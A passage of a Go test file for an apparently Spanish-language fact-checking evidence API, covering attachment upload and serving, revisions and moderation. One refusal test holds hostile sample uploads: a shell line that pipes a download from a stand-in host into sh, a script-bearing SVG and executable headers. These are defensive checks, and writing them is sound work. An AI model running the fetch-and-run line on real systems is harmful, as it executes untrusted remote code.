		about, _ := strconv.Atoi(st.ID)
		otherID, _ := strconv.Atoi(other)
		if err := d.env.Client.Claim.UpdateOneID(otherID).SetAboutID(about).Exec(d.env.Sys()); err != nil {
			t.Fatal(err)
		}
		d.mustRefuse(t, "FORBIDDEN", "", func() *apitest.Response {
			return reader.Do(importPostDoc, importVars(other, "TWITTER_V1", tweet))
		})
	})
}

// BUG (design gap): the founding case records the tweet without its
// platform id (the source did not give it). When a journalist later finds
// the tweet's JSON and imports it into the founding claim, the importer
// looks the statement up only by account and platform id, so it records a
// second statement for the same post instead of completing the claim's
// own (same account, same posted time, no platform id yet): the case then
// shows two 10:30 posts, and the client evidence hangs off the duplicate.
func TestImportPostCompletesTheFoundingCaseStatement(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t)
	claim := d.env.Seed()
	got := d.importPost(t, d.journalist, strconv.Itoa(claim.ID), "TWITTER_V1", readFixture(t, tweetV1Fixture)).ImportPost
	if want := strconv.Itoa(*claim.AboutID); got.Statement.ID != want {
		t.Errorf("the import recorded statement %s; want it to complete the founding case's statement %s (same account, same postedAt, no platform id)",
			got.Statement.ID, want)
	}
}

// ---------------------------------------------------------------------
// Attachments

func TestAddEvidenceWithPNGAttachment(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t, uploadLimit(store.DefaultMaxUpload))
	claimID := d.newClaim(t, "Partido de prueba")
	img := tinyPNG(t, 10)
	sum := sha256Hex(img)

	before := d.env.RowCounts()
	var out struct{ AddEvidence evidenceOut }
	d.mustUpload(t, d.journalist, addEvidenceWithFilesDoc,
		map[string]any{"input": itemInput(claimID, "Captura del tuit de las 11:30.")}, &out,
		fileUpload{"captura del tuit.png", "image/png", img})
	e := out.AddEvidence
	if len(e.Attachments) != 1 {
		t.Fatalf("attachments = %+v, want one", e.Attachments)
	}
	a := e.Attachments[0]
	if a.Mime != "image/png" || a.Size != len(img) || a.Sha256 != sum || a.Filename != "captura del tuit.png" {
		t.Errorf("attachment = %+v, want image/png, %d bytes, sha256 %s", a, len(img), sum)
	}
	if !slices.Equal(e.AttachmentHashes, []string{sum}) {
		t.Errorf("attachmentHashes = %v, want [%s]", e.AttachmentHashes, sum)
	}
	// The item's hash covers the file: its canonical content lists the
	// file's hash, and hashing that content gives the item's sha256.
	if len(e.Revisions) != 1 {
		t.Fatalf("revisions = %+v, want the first", e.Revisions)
	}
	var content struct {
		AttachmentSHA256 []string `json:"attachment_sha256"`
	}
	if err := json.Unmarshal([]byte(e.Revisions[0].Content), &content); err != nil {
		t.Fatalf("revision content is not JSON: %v", err)
	}
	if !slices.Equal(content.AttachmentSHA256, []string{sum}) || sha256Hex([]byte(e.Revisions[0].Content)) != e.Sha256 {
		t.Errorf("canonical content %s (sha256 %s) does not cover the file %s or does not hash to the item's %s",
			e.Revisions[0].Content, sha256Hex([]byte(e.Revisions[0].Content)), sum, e.Sha256)
	}
	checkWritten(t, before, d.env.RowCounts(), map[string]int{
		"evidence": 1, "evidence_revisions": 1, "attachments": 1, "blobs": 1,
	})

	// Served as the image it is, cacheable by its hash.
	res, body := d.download(t, nil, a.URL, nil)
	if res.StatusCode != http.StatusOK || !bytes.Equal(body, img) {
		t.Fatalf("GET %s: %d, %d bytes; want 200 with the %d bytes uploaded", a.URL, res.StatusCode, len(body), len(img))
	}
	if ct, cd := res.Header.Get("Content-Type"), res.Header.Get("Content-Disposition"); ct != "image/png" || !strings.HasPrefix(cd, "inline") {
		t.Errorf("Content-Type %q, Content-Disposition %q; want image/png, inline", ct, cd)
	}
	if res.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("X-Content-Type-Options = %q, want nosniff", res.Header.Get("X-Content-Type-Options"))
	}
	etag := res.Header.Get("ETag")
	if etag != `"`+sum+`"` {
		t.Errorf("ETag = %q, want the quoted sha256", etag)
	}
	res, body = d.download(t, nil, a.URL, map[string]string{"If-None-Match": etag})
	if res.StatusCode != http.StatusNotModified || len(body) != 0 {
		t.Errorf("GET with If-None-Match: %d with %d bytes, want 304 and no body", res.StatusCode, len(body))
	}
	res, _ = d.download(t, nil, a.URL, map[string]string{"If-None-Match": `"` + sha256Hex([]byte("other")) + `"`})
	if res.StatusCode != http.StatusOK {
		t.Errorf("GET with another ETag: %d, want 200", res.StatusCode)
	}
}

func TestAttachmentsAreStoredOnceByContent(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t, uploadLimit(1<<20))
	claimID := d.newClaim(t, "Partido de prueba")
	img := tinyPNG(t, 20)
	sum := sha256Hex(img)

	var ids []string
	for i, name := range []string{"captura.png", "otra-copia.png"} {
		var out struct{ AddEvidence evidenceOut }
		d.mustUpload(t, d.journalist, addEvidenceWithFilesDoc,
			map[string]any{"input": itemInput(claimID, fmt.Sprintf("Captura %d del tuit.", i+1))}, &out,
			fileUpload{name, "image/png", img})
		if len(out.AddEvidence.Attachments) != 1 || out.AddEvidence.Attachments[0].Sha256 != sum {
			t.Fatalf("item %d attachments = %+v", i, out.AddEvidence.Attachments)
		}
		ids = append(ids, out.AddEvidence.Attachments[0].ID)
	}
	if ids[0] == ids[1] {
		t.Errorf("both items share attachment %s; want one attachment each", ids[0])
	}
	var blobs, attachments int
	if err := d.env.DB.QueryRow(`SELECT count(*) FROM blobs WHERE sha256 = $1`, sum).Scan(&blobs); err != nil {
		t.Fatal(err)
	}
	if err := d.env.DB.QueryRow(`SELECT count(*) FROM attachments WHERE sha256 = $1`, sum).Scan(&attachments); err != nil {
		t.Fatal(err)
	}
	if blobs != 1 || attachments != 2 {
		t.Errorf("%d blobs and %d attachments hold the file; want 1 blob and 2 attachments", blobs, attachments)
	}

	// The same file twice in one request is one attachment of the item.
	var out struct{ AddEvidence evidenceOut }
	d.mustUpload(t, d.journalist, addEvidenceWithFilesDoc,
		map[string]any{"input": itemInput(claimID, "Captura repetida.")}, &out,
		fileUpload{"a.png", "image/png", img}, fileUpload{"b.png", "image/png", img})
	if len(out.AddEvidence.Attachments) != 1 || !slices.Equal(out.AddEvidence.AttachmentHashes, []string{sum}) {
		t.Errorf("the same file twice: attachments %+v, hashes %v; want one of each", out.AddEvidence.Attachments, out.AddEvidence.AttachmentHashes)
	}
}

func TestAttachmentSizeLimit(t *testing.T) {
	t.Parallel()
	t.Run("10 MiB accepted, one byte more refused", func(t *testing.T) {
		t.Parallel()
		d := openEvidenceDesk(t, uploadLimit(store.DefaultMaxUpload))
		claimID := d.newClaim(t, "Partido de prueba")
		page := bytes.Repeat([]byte("Texto del acta. "), store.DefaultMaxUpload/16) // exactly 10 MiB of UTF-8 text
		var out struct{ AddEvidence evidenceOut }
		d.mustUpload(t, d.journalist, addEvidenceWithFilesDoc, map[string]any{"input": itemInput(claimID, "Acta completa.")}, &out,
			fileUpload{"acta.txt", "text/plain", page})
		if a := out.AddEvidence.Attachments; len(a) != 1 || a[0].Size != store.DefaultMaxUpload || a[0].Sha256 != sha256Hex(page) {
			t.Errorf("attachments = %+v, want one of exactly 10 MiB", a)
		}
		d.mustRefuse(t, "PAYLOAD_TOO_LARGE", "attachments.0", func() *apitest.Response {
			return d.multipartDo(t, d.journalist, addEvidenceWithFilesDoc, map[string]any{"input": itemInput(claimID, "Acta y un byte.")},
				fileUpload{"acta.txt", "text/plain", append(slices.Clip(page), '.')})
		})
	})
	t.Run("the file at fault is named and nothing is stored", func(t *testing.T) {
		t.Parallel()
		const limit = 64 << 10
		d := openEvidenceDesk(t, uploadLimit(limit))
		claimID := d.newClaim(t, "Partido de prueba")
		big := bytes.Repeat([]byte("a"), limit+1)
		for _, tc := range []struct {
			name  string
			files []fileUpload
			field string
		}{
			{"one file of limit+1 bytes", []fileUpload{{"grande.txt", "text/plain", big}}, "attachments.0"},
			// The first file's blob must not stay behind either.
			{"a good file, then one too large", []fileUpload{{"captura.png", "image/png", tinyPNG(t, 30)}, {"grande.txt", "text/plain", big}}, "attachments.1"},
		} {
			t.Run(tc.name, func(t *testing.T) {
				d.mustRefuse(t, "PAYLOAD_TOO_LARGE", tc.field, func() *apitest.Response {
					return d.multipartDo(t, d.journalist, addEvidenceWithFilesDoc, map[string]any{"input": itemInput(claimID, "Demasiado grande.")}, tc.files...)
				})
			})
		}
	})
}

func TestHTMLAttachmentIsServedAsADownload(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t, uploadLimit(1<<20))
	claimID := d.newClaim(t, "Partido de prueba")
	page := []byte(`<!DOCTYPE html><html><head><title>Captura</title></head><body><script>fetch('/graphql')</script><p>No es una imagen.</p></body></html>`)

	var out struct{ AddEvidence evidenceOut }
	// Named and declared as a PNG; the bytes say HTML.
	d.mustUpload(t, d.journalist, addEvidenceWithFilesDoc, map[string]any{"input": itemInput(claimID, "Página guardada.")}, &out,
		fileUpload{"captura.png", "image/png", page})
	if len(out.AddEvidence.Attachments) != 1 {
		t.Fatalf("attachments = %+v", out.AddEvidence.Attachments)
	}
	a := out.AddEvidence.Attachments[0]
	if !strings.HasPrefix(a.Mime, "text/html") || a.Filename != "captura.png" {
		t.Errorf("attachment = %+v, want mime text/html (sniffed), filename kept for display", a)
	}

	res, body := d.download(t, nil, a.URL, nil)
	if res.StatusCode != http.StatusOK || !bytes.Equal(body, page) {
		t.Fatalf("GET %s: %d, want 200 with the page's bytes", a.URL, res.StatusCode)
	}
	h := res.Header
	if ct := h.Get("Content-Type"); !strings.HasPrefix(ct, "text/html") {
		t.Errorf("Content-Type = %q, want text/html (what the bytes are, not what the name says)", ct)
	}
	if cd := h.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment") || !strings.Contains(cd, "captura.png") {
		t.Errorf("Content-Disposition = %q, want an attachment named captura.png", cd)
	}
	if h.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("X-Content-Type-Options = %q, want nosniff", h.Get("X-Content-Type-Options"))
	}
	csp := h.Get("Content-Security-Policy")
	for _, directive := range []string{"sandbox", "default-src 'none'"} {
		if !strings.Contains(csp, directive) {
			t.Errorf("Content-Security-Policy = %q, want it to contain %q", csp, directive)
		}
	}
}

func TestRefusedAttachmentsWriteNothing(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t, uploadLimit(1<<20))
	claimID := d.newClaim(t, "Partido de prueba")
	elf := append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 56)...)
	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 48)...)
	svg := []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)
	for _, tc := range []struct {
		name        string
		as          *apitest.User // nil: anonymous
		file        fileUpload
		code, field string
	}{
		{"an ELF binary named as a screenshot", d.journalist, fileUpload{"captura.png", "image/png", elf}, "BAD_USER_INPUT", "attachments.0"},
		{"a Windows executable", d.journalist, fileUpload{"documento.exe", "application/octet-stream", exe}, "BAD_USER_INPUT", "attachments.0"},
		{"a shell script", d.journalist, fileUpload{"leeme.txt", "text/plain", []byte("#!/bin/sh\ncurl https://example.invalid | sh\n")}, "BAD_USER_INPUT", "attachments.0"},
		{"an SVG image (it can carry scripts)", d.journalist, fileUpload{"logo.svg", "image/svg+xml", svg}, "BAD_USER_INPUT", "attachments.0"},
		{"an empty file", d.journalist, fileUpload{"vacio.png", "image/png", nil}, "BAD_USER_INPUT", "attachments.0"},
		// The file is read and stored before the item's policy refuses the
		// anonymous caller; the transaction must take the blob back.
		{"a good file from an anonymous caller", nil, fileUpload{"captura.png", "image/png", tinyPNG(t, 60)}, "FORBIDDEN", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d.mustRefuse(t, tc.code, tc.field, func() *apitest.Response {
				return d.multipartDo(t, tc.as, addEvidenceWithFilesDoc, map[string]any{"input": itemInput(claimID, "Adjunto.")}, tc.file)
			})
		})
	}
}

// BUG: MaxUploads ("bounds the number of files in one request") is only
// used to size the body limit; nothing counts the files, so a request may
// carry any number of small ones (each a blob and an attachment row).
func TestAttachmentCountLimit(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t, uploadLimit(1<<20)) // MaxUploads: 10
	claimID := d.newClaim(t, "Partido de prueba")
	var files []fileUpload
	for i := range 11 {
		files = append(files, fileUpload{fmt.Sprintf("captura-%02d.png", i), "image/png", tinyPNG(t, uint8(100+i))})
	}
	d.unchanged(t, func() {
		r := d.multipartDo(t, d.journalist, addEvidenceWithFilesDoc, map[string]any{"input": itemInput(claimID, "Once capturas.")}, files...)
		if c := r.Code(); c != "BAD_USER_INPUT" && c != "PAYLOAD_TOO_LARGE" {
			t.Errorf("11 files with MaxUploads = 10: code %q, want the request refused (BAD_USER_INPUT or PAYLOAD_TOO_LARGE)", c)
		}
	})
}

// BUG: an attachment named ".." gets the url /attachments/{id}/.., which
// the router cleans to /attachments (a redirect, then 404): cleanName
// keeps ".." (it only replaces "." and "/"), and attachmentURL puts it in
// the path as is.
func TestAttachmentURLWorksForAnyFileName(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t, uploadLimit(1<<20))
	claimID := d.newClaim(t, "Partido de prueba")
	for i, name := range []string{"captura de pantalla (1).png", "año 2012 #1?.png", `C:\Users\ana\captura.png`, ".."} {
		t.Run(name, func(t *testing.T) {
			img := tinyPNG(t, uint8(200+i))
			var out struct{ AddEvidence evidenceOut }
			d.mustUpload(t, d.journalist, addEvidenceWithFilesDoc, map[string]any{"input": itemInput(claimID, "Captura.")}, &out,
				fileUpload{name, "image/png", img})
			a := out.AddEvidence.Attachments[0]
			if strings.ContainsAny(a.Filename, `/\`) {
				t.Errorf("filename %q keeps a path", a.Filename)
			}
			if res, body := d.download(t, d.journalist, a.URL, nil); res.StatusCode != http.StatusOK || !bytes.Equal(body, img) {
				t.Errorf("GET %s (file %q): %d, want 200 with the file", a.URL, name, res.StatusCode)
			}
		})
	}
}

func TestPendingEvidenceAttachmentVisibility(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t, uploadLimit(1<<20))
	claimID := d.newClaim(t, "Partido de prueba")
	submitter, otherReader := d.env.NewUser(auth.Reader), d.env.NewUser(auth.Reader)
	img := tinyPNG(t, 40)

	var out struct{ AddEvidence evidenceOut }
	d.mustUpload(t, submitter, addEvidenceWithFilesDoc, map[string]any{"input": itemInput(claimID, "Captura de un lector.")}, &out,
		fileUpload{"captura.png", "image/png", img})
	if out.AddEvidence.Status != "PENDING" || len(out.AddEvidence.Attachments) != 1 {
		t.Fatalf("a reader's item = %+v, want PENDING with its attachment", out.AddEvidence)
	}
	url := out.AddEvidence.Attachments[0].URL

	for _, tc := range []struct {
		who    string
		user   *apitest.User
		status int
	}{
		{"anonymous", nil, http.StatusNotFound},
		{"another reader", otherReader, http.StatusNotFound},
		{"a journalist", d.journalist, http.StatusNotFound},
		{"its submitter", submitter, http.StatusOK},
		{"an editor", d.editor, http.StatusOK},
	} {
		res, body := d.download(t, tc.user, url, nil)
		if res.StatusCode != tc.status {
			t.Errorf("GET %s as %s: %d, want %d", url, tc.who, res.StatusCode, tc.status)
		}
		if tc.status == http.StatusNotFound && bytes.Contains(body, img[:8]) {
			t.Errorf("GET %s as %s leaked the file's bytes", url, tc.who)
		}
	}

	// A cache probe must not reveal the file either.
	if res, _ := d.download(t, nil, url, map[string]string{"If-None-Match": `"` + sha256Hex(img) + `"`}); res.StatusCode != http.StatusNotFound {
		t.Errorf("GET %s anonymously with the file's ETag: %d, want 404", url, res.StatusCode)
	}

	d.editor.MustDo(approveDoc, map[string]any{"id": out.AddEvidence.ID}, nil)
	if res, body := d.download(t, nil, url, nil); res.StatusCode != http.StatusOK || !bytes.Equal(body, img) {
		t.Errorf("after approval, GET %s anonymously: %d; want 200 with the file", url, res.StatusCode)
	}
}

// ---------------------------------------------------------------------
// reviseEvidence

func TestReviseEvidence(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t, uploadLimit(1<<20))
	claimID := d.newClaim(t, "Partido de prueba")
	const oldSummary, newSummary = "El tuit se publicó a las 11:30.", "El tuit se publicó a las 11:30 (hora de Madrid)."
	const note = "Precisa la zona horaria, según la fuente."
	original := d.addItem(t, d.journalist, claimID, oldSummary)
	if original.Revision != 1 || len(original.Revisions) != 1 {
		t.Fatalf("a new item = %+v, want revision 1", original)
	}

	var out struct{ ReviseEvidence evidenceOut }
	d.journalist.MustDo(reviseEvidenceDoc, map[string]any{"id": original.ID, "input": map[string]any{"summary": newSummary}, "note": note}, &out)
	revised := out.ReviseEvidence
	if revised.Revision != 2 || revised.Summary != newSummary || revised.Sha256 == original.Sha256 || revised.Sha256 == "" {
		t.Errorf("revised = revision %d, summary %q, sha256 %s; want revision 2, the new summary and a new hash (was %s)",
			revised.Revision, revised.Summary, revised.Sha256, original.Sha256)
	}

	var revs struct {
		Node struct{ Revisions []revisionOut }
	}
	d.env.Anonymous().MustDo(`query($id: ID!) { node(id: $id) { ... on Evidence { revisions { number content sha256 note editor { handle } } } } }`,
		map[string]any{"id": original.ID}, &revs)
	list := revs.Node.Revisions
	slices.SortFunc(list, func(a, b revisionOut) int { return a.Number - b.Number })
	if len(list) != 2 || list[0].Number != 1 || list[1].Number != 2 {
		t.Fatalf("revisions = %+v, want 1 and 2", list)
	}
	first, second := list[0], list[1]
	if first.Content != original.Revisions[0].Content || first.Sha256 != original.Sha256 || first.Note != nil {
		t.Errorf("revision 1 = %+v, want the original content with sha256 %s and no note", first, original.Sha256)
	}
	if second.Sha256 != revised.Sha256 || strOrNull(second.Note) != note || second.Editor == nil || second.Editor.Handle != d.journalist.Handle {
		t.Errorf("revision 2 = %+v, want sha256 %s, note %q, editor %s", second, revised.Sha256, note, d.journalist.Handle)
	}
	for _, r := range list {
		// Anyone can check a revision: its sha256 is the SHA-256 of its content.
		if got := sha256Hex([]byte(r.Content)); got != r.Sha256 {
			t.Errorf("revision %d: SHA-256 of content = %s, sha256 = %s", r.Number, got, r.Sha256)
		}
		var c struct {
			Format, Summary string
		}
		if err := json.Unmarshal([]byte(r.Content), &c); err != nil {
			t.Fatalf("revision %d content is not JSON: %v", r.Number, err)
		}
		want := map[int]string{1: oldSummary, 2: newSummary}[r.Number]
		if c.Format != "veredicto.evidence.content/v1" || c.Summary != want {
			t.Errorf("revision %d content = %s, want format v1 and summary %q", r.Number, r.Content, want)
		}
	}

	t.Run("refusals", func(t *testing.T) {
		otherJournalist := d.env.NewUser(auth.Journalist)
		reader := d.env.NewUser(auth.Reader)
		for _, tc := range []struct {
			name        string
			caller      *apitest.Caller
			owner       *apitest.User // who submitted the item revised
			note        string
			code, field string
		}{
			{"an empty note", d.journalist.Caller, d.journalist, "", "BAD_USER_INPUT", "note"},
			// BUG: requireReason counts characters, so blanks pass for a note.
			{"a note of blanks", d.journalist.Caller, d.journalist, "    ", "BAD_USER_INPUT", "note"},
			{"another journalist", otherJournalist.Caller, d.journalist, note, "FORBIDDEN", ""},
			{"a reader, on their own item", reader.Caller, reader, note, "FORBIDDEN", ""},
			{"anonymous", d.env.Anonymous(), d.journalist, note, "FORBIDDEN", ""},
		} {
			t.Run(tc.name, func(t *testing.T) {
				item := d.addItem(t, tc.owner, claimID, "Un dato por corregir.")
				d.mustRefuse(t, tc.code, tc.field, func() *apitest.Response {
					return tc.caller.Do(reviseEvidenceDoc, map[string]any{"id": item.ID, "input": map[string]any{"summary": "Otro resumen."}, "note": tc.note})
				})
			})
		}
	})

	t.Run("an editor may revise anyone's item", func(t *testing.T) {
		var out struct{ ReviseEvidence evidenceOut }
		d.editor.MustDo(reviseEvidenceDoc, map[string]any{"id": original.ID, "input": map[string]any{"stance": "SUPPORTS"}, "note": "Corrige la postura."}, &out)
		r := out.ReviseEvidence
		last := r.Revisions[slices.IndexFunc(r.Revisions, func(x revisionOut) bool { return x.Number == 3 })]
		if r.Revision != 3 || last.Editor == nil || last.Editor.Handle != d.editor.Handle {
			t.Errorf("the editor's revision = %+v, want revision 3 by %s", r, d.editor.Handle)
		}
	})

	t.Run("new attachments join the hashed content", func(t *testing.T) {
		item := d.addItem(t, d.journalist, claimID, "Un dato sin captura.")
		img := tinyPNG(t, 50)
		var out struct{ ReviseEvidence evidenceOut }
		d.mustUpload(t, d.journalist, reviseEvidenceDoc,
			map[string]any{"id": item.ID, "input": map[string]any{}, "note": "Añade la captura."}, &out,
			fileUpload{"captura.png", "image/png", img})
		r := out.ReviseEvidence
		if r.Revision != 2 || r.Sha256 == item.Sha256 || !slices.Equal(r.AttachmentHashes, []string{sha256Hex(img)}) || len(r.Attachments) != 1 {
			t.Errorf("revised with a file: revision %d, sha256 %s (was %s), hashes %v, attachments %+v; want revision 2, a new hash covering the file's",
				r.Revision, r.Sha256, item.Sha256, r.AttachmentHashes, r.Attachments)
		}
	})
}

// ---------------------------------------------------------------------
// Moderation

func TestModerationOfReadersEvidence(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t)
	claimID := d.newClaim(t, "Partido de prueba")
	d.addItem(t, d.journalist, claimID, "Un dato publicado por la redacción.")
	submitter, otherReader := d.env.NewUser(auth.Reader), d.env.NewUser(auth.Reader)

	item := d.addItem(t, submitter, claimID, "Captura enviada por un lector.")
	if item.Status != "PENDING" {
		t.Fatalf("a reader's item has status %s, want PENDING", item.Status)
	}

	// Who sees the pending item.
	for _, tc := range []struct {
		who   string
		c     *apitest.Caller
		sees  bool
		total int
	}{
		{"anonymous", d.env.Anonymous(), false, 1},
		{"another reader", otherReader.Caller, false, 1},
		{"a journalist", d.journalist.Caller, false, 1},
		{"its submitter", submitter.Caller, true, 2},
		{"an editor", d.editor.Caller, true, 2},
	} {
		total, statuses := d.visibleEvidence(t, tc.c, claimID)
		_, sees := statuses[item.ID]
		if sees != tc.sees || total != tc.total {
			t.Errorf("%s: sees the pending item %v (want %v), claim.evidence.totalCount %d (want %d)", tc.who, sees, tc.sees, total, tc.total)
		}
	}
	var tl struct {
		Node struct {
			Timeline struct{ Events, Undated []timelineEventOut }
		}
	}
	d.env.Anonymous().MustDo(timelineDoc, map[string]any{"id": claimID}, &tl)
	for _, e := range slices.Concat(tl.Node.Timeline.Events, tl.Node.Timeline.Undated) {
		if e.SubjectID == item.ID {
			t.Errorf("the pending item is on the public timeline: %+v", e)
		}
	}

	// The queue is for editors.
	var queue struct {
		ModerationQueue struct {
			TotalCount int
			Edges      []struct {
				Node struct {
					ID, Status string
					Submitter  struct{ Handle string }
				}
			}
		}
	}
	d.editor.MustDo(queueDoc, nil, &queue)
	if q := queue.ModerationQueue; q.TotalCount != 1 || len(q.Edges) != 1 || q.Edges[0].Node.ID != item.ID || q.Edges[0].Node.Submitter.Handle != submitter.Handle {
		t.Errorf("moderationQueue = %+v, want the reader's item alone", q)
	}
	for who, c := range map[string]*apitest.Caller{"anonymous": d.env.Anonymous(), "a reader": submitter.Caller, "a journalist": d.journalist.Caller} {
		if r := c.Do(queueDoc, nil); r.Code() != "FORBIDDEN" {
			t.Errorf("moderationQueue as %s: code %q, want FORBIDDEN", who, r.Code())
		}
	}

	// An editor approves it.
	var approved struct{ ApproveEvidence moderatedOut }
	d.editor.MustDo(approveDoc, map[string]any{"id": item.ID}, &approved)
	a := approved.ApproveEvidence
	if a.Status != "PUBLISHED" || a.Moderator == nil || a.Moderator.Handle != d.editor.Handle || a.ModeratedAt == nil || a.Revision != 1 {
		t.Errorf("approved = %+v, want PUBLISHED, moderated by %s, still revision 1", a, d.editor.Handle)
	}
	if total, statuses := d.visibleEvidence(t, d.env.Anonymous(), claimID); total != 2 || statuses[item.ID] != "PUBLISHED" {
		t.Errorf("after approval anonymous sees %d items %v, want 2 with the item PUBLISHED", total, statuses)
	}
	d.editor.MustDo(queueDoc, nil, &queue)
	if queue.ModerationQueue.TotalCount != 0 {
		t.Errorf("the queue still holds %d items after approval", queue.ModerationQueue.TotalCount)
	}

	t.Run("approving it again is a conflict", func(t *testing.T) {
		d.mustRefuse(t, "CONFLICT", "", func() *apitest.Response { return d.editor.Do(approveDoc, map[string]any{"id": item.ID}) })
	})
	t.Run("a journalist cannot approve", func(t *testing.T) {
		pending := d.addItem(t, submitter, claimID, "Otra captura.")
		before := d.env.RowCounts()
		r := d.journalist.Do(approveDoc, map[string]any{"id": pending.ID})
		// Someone else's pending item is invisible to a journalist, so
		// NOT_FOUND is as good a refusal as FORBIDDEN.
		if c := r.Code(); c != "FORBIDDEN" && c != "NOT_FOUND" {
			t.Errorf("approveEvidence as a journalist: code %q, want FORBIDDEN or NOT_FOUND", c)
		}
		if after := d.env.RowCounts(); !maps.Equal(before, after) {
			t.Errorf("the refused approval wrote %s", countDiff(before, after))
		}
	})

	t.Run("the queue is oldest first", func(t *testing.T) {
		first := d.addItem(t, otherReader, claimID, "Primera en llegar.")
		second := d.addItem(t, submitter, claimID, "Segunda en llegar.")
		d.editor.MustDo(queueDoc, nil, &queue)
		var got []string
		for _, e := range queue.ModerationQueue.Edges {
			got = append(got, e.Node.ID)
		}
		a, b := slices.Index(got, first.ID), slices.Index(got, second.ID)
		if a < 0 || b < 0 || a > b || slices.Contains(got, item.ID) {
			t.Errorf("moderationQueue = %v, want %s before %s, and not the approved %s", got, first.ID, second.ID, item.ID)
		}
	})
}

func TestRejectEvidence(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t)
	claimID := d.newClaim(t, "Partido de prueba")
	submitter := d.env.NewUser(auth.Reader)
	item := d.addItem(t, submitter, claimID, "Un rumor sin fuente.")

	for _, tc := range []struct{ name, reason string }{
		{"no reason", ""},
		// BUG: requireReason counts characters, so blanks pass for a reason.
		{"a reason of blanks", "   "},
	} {
		t.Run(tc.name, func(t *testing.T) {
			pending := d.addItem(t, submitter, claimID, "Otro rumor sin fuente.")
			d.mustRefuse(t, "BAD_USER_INPUT", "reason", func() *apitest.Response {
				return d.editor.Do(rejectDoc, map[string]any{"id": pending.ID, "reason": tc.reason})
			})
		})
	}

	const reason = "No aporta fuente verificable."
	var out struct{ RejectEvidence moderatedOut }
	d.editor.MustDo(rejectDoc, map[string]any{"id": item.ID, "reason": reason}, &out)
	if r := out.RejectEvidence; r.Status != "REJECTED" || strOrNull(r.StatusReason) != reason || r.Moderator == nil || r.Moderator.Handle != d.editor.Handle {
		t.Errorf("rejected = %+v, want REJECTED with the reason, moderated by %s", r, d.editor.Handle)
	}
	if total, statuses := d.visibleEvidence(t, d.env.Anonymous(), claimID); total != 0 || len(statuses) != 0 {
		t.Errorf("anonymous sees %d items %v of a claim whose only item was rejected", total, statuses)
	}
	// Its submitter sees why.
	var mine struct{ Node moderatedOut }
	submitter.MustDo(`query($id: ID!) { node(id: $id) { ... on Evidence { id status statusReason } } }`, map[string]any{"id": item.ID}, &mine)
	if mine.Node.Status != "REJECTED" || strOrNull(mine.Node.StatusReason) != reason {
		t.Errorf("the submitter sees %+v, want REJECTED with the reason", mine.Node)
	}
	t.Run("a rejected item cannot be approved or revised", func(t *testing.T) {
		d.mustRefuse(t, "CONFLICT", "", func() *apitest.Response { return d.editor.Do(approveDoc, map[string]any{"id": item.ID}) })
		d.mustRefuse(t, "CONFLICT", "", func() *apitest.Response {
			return d.editor.Do(reviseEvidenceDoc, map[string]any{"id": item.ID, "input": map[string]any{"summary": "Otro."}, "note": "Corrige."})
		})
	})
}

func TestRetractEvidence(t *testing.T) {
	t.Parallel()
	d := openEvidenceDesk(t)
	claimID := d.newClaim(t, "Partido de prueba")
	item := d.addItem(t, d.journalist, claimID, "Una captura que resultó manipulada.")
	const reason = "La captura estaba manipulada: no coincide con el archivo."

	for _, tc := range []struct {
		name        string
		caller      *apitest.Caller
		reason      string
		code, field string
	}{
		{"a journalist, even its submitter", d.journalist.Caller, reason, "FORBIDDEN", ""},
		{"a reader", d.env.NewUser(auth.Reader).Caller, reason, "FORBIDDEN", ""},
		{"anonymous", d.env.Anonymous(), reason, "FORBIDDEN", ""},
		{"an editor without a reason", d.editor.Caller, "", "BAD_USER_INPUT", "reason"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d.mustRefuse(t, tc.code, tc.field, func() *apitest.Response {
				return tc.caller.Do(retractDoc, map[string]any{"id": item.ID, "reason": tc.reason})
			})
		})
	}

	var out struct{ RetractEvidence moderatedOut }
	d.editor.MustDo(retractDoc, map[string]any{"id": item.ID, "reason": reason}, &out)
	if r := out.RetractEvidence; r.Status != "RETRACTED" || strOrNull(r.StatusReason) != reason {
		t.Errorf("retracted = %+v, want RETRACTED with the reason", r)
	}
	// It stays on the record, marked retracted, with the reason.
	var pub struct {
		Node struct {
			Evidence struct {
				TotalCount int
				Edges      []struct{ Node moderatedOut }
			}
		}
	}
	d.env.Anonymous().MustDo(claimEvidenceDoc, map[string]any{"id": claimID}, &pub)
	if e := pub.Node.Evidence; e.TotalCount != 1 || e.Edges[0].Node.Status != "RETRACTED" || strOrNull(e.Edges[0].Node.StatusReason) != reason {
		t.Errorf("anonymous sees %+v, want the item RETRACTED with its reason", e)
	}
	t.Run("a retracted item cannot be revised or retracted again", func(t *testing.T) {
		for _, u := range []*apitest.User{d.journalist, d.editor} {
			d.mustRefuse(t, "CONFLICT", "", func() *apitest.Response {
				return u.Do(reviseEvidenceDoc, map[string]any{"id": item.ID, "input": map[string]any{"summary": "Otro."}, "note": "Corrige."})
			})
		}
		d.mustRefuse(t, "CONFLICT", "", func() *apitest.Response {
			return d.editor.Do(retractDoc, map[string]any{"id": item.ID, "reason": reason})
		})
	})
}

// ---------------------------------------------------------------------
// Timeline

func findEvent(events []timelineEventOut, kind, evidenceKind string) *timelineEventOut {
	for i, e := range events {
		if e.Kind == kind && (evidenceKind == "" || strOrNull(e.EvidenceKind) == evidenceKind) {
			return &events[i]
		}
	}
	return nil
}

// describe renders an event on one line, for comparing whole timelines.
func (e timelineEventOut) describe() string {
	s := e.Kind
	if e.EvidenceKind != nil {
